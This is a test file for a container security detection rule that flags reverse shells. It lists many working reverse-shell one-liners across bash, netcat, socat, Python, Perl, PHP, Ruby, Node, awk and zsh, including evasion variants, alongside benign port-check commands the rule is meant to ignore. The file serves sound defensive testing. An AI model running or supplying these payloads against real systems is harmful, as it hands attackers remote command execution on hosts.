import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { reverseShell } from '../../../../../controlplane/src/detections/rules/reverse-shell';
import { CONTAINER_ID, execEvent } from '../../../../helpers/synthetic-events';
import { ruleContext } from '../../../../helpers/rule-context';

const run = (filename: string, argv: string[]) => reverseShell.match(execEvent({ filename, argv, containerId: CONTAINER_ID }), ruleContext());

describe('rule reverse-shell', () => {
  test('should trigger: the classic one-liners (pentestmonkey, PayloadsAllTheThings shapes)', () => {
    const cases: [string, string[]][] = [
      ['/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1']],
      ['/bin/sh', ['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f']],
      ['/bin/nc', ['nc', '-e', '/bin/sh', '198.51.100.7', '4444']],
      ['/usr/bin/ncat', ['ncat', '198.51.100.7', '4444', '--sh-exec', '/bin/bash']],
      ['/usr/bin/socat', ['socat', 'tcp-connect:198.51.100.7:4444', 'exec:/bin/sh,pty,stderr,setsid,sigint,sane']],
      ['/usr/bin/python3', ['python3', '-c', 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty;pty.spawn("/bin/sh")']],
      ['/usr/bin/perl', ['perl', '-e', 'use Socket;$i="198.51.100.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};']],
      ['/usr/bin/php', ['php', '-r', '$sock=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");']],
      ['/usr/bin/ruby', ['ruby', '-rsocket', '-e', 'f=TCPSocket.open("198.51.100.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)']],
      ['/usr/bin/node', ['node', '-e', 'require("child_process").exec("nc -e /bin/sh 198.51.100.7 4444"); var net = require("net")']],
      ['/usr/bin/awk', ['awk', 'BEGIN {s = "/inet/tcp/0/198.51.100.7/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}']],
      ['/bin/sh', ['sh', '-c', 'telnet 198.51.100.7 4444 | /bin/sh | telnet 198.51.100.7 4445']],
      // Evasions: a renamed python, busybox nc, a copied shell taking -c.
      ['/tmp/py', ['/tmp/py', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("h",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")']],
      ['/bin/busybox', ['busybox', 'nc', '198.51.100.7', '4444', '-e', '/bin/sh']],
      ['/var/tmp/.k', ['/var/tmp/.k', '-c', 'exec 5<>/dev/tcp/198.51.100.7/4444;cat <&5 | while read l; do $l 2>&5 >&5; done']],
    ];
    for (const [f, argv] of cases) assert.ok(run(f, argv), argv.join(' ').slice(0, 80));
  });

  test('should not trigger: netcat listening or probing, socat forwarding ports, python scripts with sockets but no shell', () => {
    const cases: [string, string[]][] = [
      ['/bin/nc', ['nc', '-z', '-v', 'db', '5432']],
      ['/bin/nc', ['nc', '-l', '-p', '8080']],
      ['/usr/bin/socat', ['socat', 'TCP-LISTEN:8080,fork', 'TCP:backend:80']],
      ['/usr/bin/python3', ['python3', '-c', 'import socket; socket.create_connection(("db", 5432)).close()']],
      ['/bin/sh', ['sh', '-c', 'curl -s http://localhost:8080/healthz']],
      ['/usr/bin/ncat', ['ncat', '--version']],
    ];
    for (const [f, argv] of cases) assert.equal(run(f, argv), null, argv.join(' '));
  });
});

describe('rule reverse-shell: review findings 3 and 4', () => {
  test('should trigger (review 3): service-name and variable ports, quoted paths, attached flags, renamed and toybox nc, socat SHELL:, relays, mknod, perl IO, zsh ztcp, gawk /inet4, awk -v', () => {
    const cases: [string, string[]][] = [
      ['/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/evil.example/https 0>&1']],
      ['/bin/bash', ['bash', '-c', 'P=4444; bash -i >& /dev/tcp/198.51.100.7/$P 0>&1']],
      ['/bin/bash', ['bash', '-c', 'bash -i >& /dev/tc""p/198.51.100.7/4444 0>&1']],
      ['/bin/bash', ['bash', '-c', '0<&196;exec 196<>/dev/tcp/198.51.100.7/4444; sh <&196 >&196 2>&196']],
      ['/bin/nc', ['nc', '-e/bin/sh', '198.51.100.7', '4444']],
      ['/usr/bin/ncat', ['ncat', '--exec=/bin/sh', '198.51.100.7', '4444']],
      ['/usr/bin/ncat', ['ncat', '--sh-exec=/bin/sh', '198.51.100.7', '4444']],
      ['/tmp/x', ['/tmp/x', '-e', '/bin/sh', '198.51.100.7', '4444']],
      ['/bin/toybox', ['toybox', 'nc', '-e', '/bin/sh', '198.51.100.7', '4444']],
      ['/usr/bin/socat', ['socat', 'tcp:198.51.100.7:4444', 'shell:/bin/sh -i']],
      ['/bin/sh', ['sh', '-c', "socat tcp:198.51.100.7:4444 shell:'/bin/sh -i'"]],
      ['/bin/sh', ['sh', '-c', 'socat tcp:198.51.100.7:4444 stdio | sh 2>&1 | socat stdio tcp:198.51.100.7:4445']],
      ['/bin/sh', ['sh', '-c', 'nc 198.51.100.7 4444 | /bin/sh | nc 198.51.100.7 4445']],
      ['/bin/sh', ['sh', '-c', 'mknod /tmp/p p && /bin/sh 0</tmp/p | nc 198.51.100.7 4444 1>/tmp/p']],
      ['/bin/sh', ['sh', '-c', 'nohup setsid nc -e /bin/sh 198.51.100.7 4444 &']],
      ['/usr/bin/perl', ['perl', '-MIO', '-e', '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"198.51.100.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;']],
      ['/usr/bin/perl', ['perl', '-Mbase', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("198.51.100.7")));open(STDIN,">&S");exec("/bin/sh -i");']],
      ['/bin/zsh', ['zsh', '-c', 'zmodload zsh/net/tcp; ztcp 198.51.100.7 4444; zsh >&$REPLY 2>&$REPLY 0>&$REPLY']],
      ['/usr/bin/gawk', ['gawk', 'BEGIN{s="/inet4/tcp/0/198.51.100.7/4444";while(1){s |& getline c; while((c |& getline)>0) print $0 |& s; close(c)}}']],
      ['/usr/bin/gawk', ['gawk', '-v', 'h=198.51.100.7', 'BEGIN{s="/inet/tcp/0/"h"/4444";while(1){printf "> " |& s; s |& getline c; while((c |& getline)>0) print $0 |& s; close(c)}}']],
      ['/usr/bin/ruby', ['ruby', '-rsocket', '-eexit if fork;c=TCPSocket.new("198.51.100.7","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end']],
      ['/usr/bin/python3', ['python3', '-cimport socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")']],
      ['/usr/bin/php', ['php', '-r$s=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");']],
      ['/usr/bin/node', ['node', '--eval=const n=require("net"),c=require("child_process");const s=new n.Socket();s.connect(4444,"198.51.100.7",()=>{const p=c.spawn("sh");s.pipe(p.stdin);p.stdout.pipe(s)})']],
      ['/lib64/ld-linux-x86-64.so.2', ['/lib64/ld-linux-x86-64.so.2', '/bin/nc', '-e', '/bin/sh', '198.51.100.7', '4444']],
    ];
    for (const [f, argv] of cases) assert.ok(run(f, argv), argv.join(' ').slice(0, 100));
  });

  test('one-liners are named by their own language: perl code is not called python', () => {
    const f = run('/usr/bin/perl', ['perl', '-e', 'use Socket;$i="198.51.100.7";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");']);
    assert.equal(f?.fields?.technique, 'perl socket to a shell');
  });

  test('should not trigger (review 4): port checks and readiness waits on /dev/tcp, grep for netcat, a cert check piped to a script', () => {
    const cases: [string, string[]][] = [
      ['/bin/bash', ['bash', '-c', 'echo > /dev/tcp/127.0.0.1/6379']],
      ['/bin/sh', ['sh', '-c', 'until bash -c "</dev/tcp/postgres/5432"; do sleep 2; done']],
      ['/bin/bash', ['bash', '-c', 'timeout 1 bash -c "cat </dev/null >/dev/tcp/kafka/9092"']],
      ['/bin/bash', ['bash', '-c', ': 2>/dev/null >/dev/tcp/127.0.0.1/9 || exit 1']],
      ['/bin/bash', ['bash', '-c', 'exec 3<>/dev/tcp/web/80; echo -e "GET / HTTP/1.0\\r\\n" >&3; cat <&3']],
      ['/bin/sh', ['sh', '-c', 'ps aux | grep -e nc -e socat']],
      ['/bin/nc', ['nc', '-C', 'smtp.example', '25']],
      ['/bin/sh', ['sh', '-c', 'openssl s_client -connect api:443 </dev/null | bash /opt/check-cert.sh']],
      ['/bin/sh', ['sh', '-c', 'mkfifo /tmp/log.pipe; tail -f /tmp/log.pipe | nc -l 8080']],
    ];
    for (const [f, argv] of cases) assert.equal(run(f, argv), null, argv.join(' '));
  });
});
